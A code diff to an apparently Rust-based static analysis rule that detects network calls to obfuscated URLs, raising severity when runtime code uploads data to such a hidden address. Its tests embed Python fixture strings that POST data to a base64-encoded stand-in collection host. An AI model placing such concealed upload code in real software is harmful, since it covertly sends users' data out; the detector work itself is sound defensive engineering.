@@ -194,7 +194,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             .or_else(|| checker.scopes.fold_lossy(target));
         if let Some(url) = url {
             super::suspicious_endpoint::check_string(checker, &url, call.range());
-            check_hidden_target(checker, call, target, &url, context);
+            check_hidden_target(checker, call, target, &url, context, op);
         }
     }
 }
@@ -247,6 +247,7 @@ fn check_hidden_target(
     target: &ruff_python_ast::Expr,
     url: &str,
     context: ExecContext,
+    op: NetOp,
 ) {
     let Some(decoder) = super::dynamic_exec::contains_decoding(checker, target) else {
         return;
@@ -259,10 +260,12 @@ fn check_hidden_target(
     if !host_like {
         return;
     }
-    let severity = match context {
-        ExecContext::Install | ExecContext::Import => 0.8,
-        ExecContext::Runtime => 0.5,
-        ExecContext::TestOrDocs => 0.1,
+    // Uploading to an address the code hides is exfiltration whoever calls the function.
+    let severity = match (context, op) {
+        (ExecContext::Install | ExecContext::Import, _) => 0.8,
+        (ExecContext::Runtime, NetOp::Send) => 0.7,
+        (ExecContext::Runtime, _) => 0.5,
+        (ExecContext::TestOrDocs, _) => 0.1,
     };
     checker.report(
         &RULE,
@@ -304,6 +307,16 @@ mod tests {
         assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.5);
         let plain = "import http.client\ndef send(d):\n    c = http.client.HTTPSConnection('collect.example.invalid')\n    c.request('POST', '/', d)\n";
         assert!(max_severity("p/pkg/m.py", plain, "WH130") < 0.1);
+    }
+
+    #[test]
+    fn uploads_to_a_hidden_address_weigh_more_than_fetches() {
+        // base64 of "http://collect.example.invalid/upload"
+        let post = "import base64, requests\ndef send(d):\n    requests.post(base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode(), data=d)\n";
+        assert!(max_severity("p/pkg/m.py", post, "WH130") >= 0.7);
+        let get = "import base64, requests\ndef load():\n    return requests.get(base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode())\n";
+        let fetch = max_severity("p/pkg/m.py", get, "WH130");
+        assert!((0.4..0.7).contains(&fetch), "{fetch}");
     }
 
     #[test]
